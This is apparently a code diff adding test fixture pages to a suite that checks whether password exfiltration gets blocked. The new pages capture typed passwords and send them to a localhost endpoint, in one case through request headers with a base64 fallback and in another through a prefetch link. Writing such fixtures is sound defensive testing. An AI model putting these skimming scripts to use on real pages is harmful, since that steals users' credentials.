@@ -39,6 +39,17 @@ LOGINS = {
         "fetch(to,{method:'POST',mode:'no-cors',body:w}).catch(()=>p.textContent='stopped');"
         "navigator.sendBeacon(to,w)}</script>"
     ),
+    "heads": _page(
+        f"<form>{_FIELDS}</form><p id=p></p><script>document.querySelector('[type=password]').oninput=e=>{{"
+        "const w=e.target.value,to='http://localhost:{port}/taken';"
+        "fetch(to,{headers:{'x-word':w}}).catch(()=>fetch(to,{headers:{'x-word':btoa(w)}}))"
+        ".catch(()=>p.textContent='stopped')}</script>"
+    ),
+    "prefetches": _page(
+        f"<form>{_FIELDS}</form><p id=p></p><script>document.querySelector('[type=password]').oninput=e=>{{"
+        "const l=document.createElement('link');l.rel='prefetch';l.onerror=()=>p.textContent='stopped';"
+        "l.href='http://localhost:{port}/taken?q='+encodeURIComponent(e.target.value);document.head.append(l)}</script>"
+    ),
     "swaps": _page(
         f"<form id=f method=post action=/signed>{_FIELDS}</form><script>window.go=()=>f.action="
         "'http://localhost:{port}/taken'</script>"
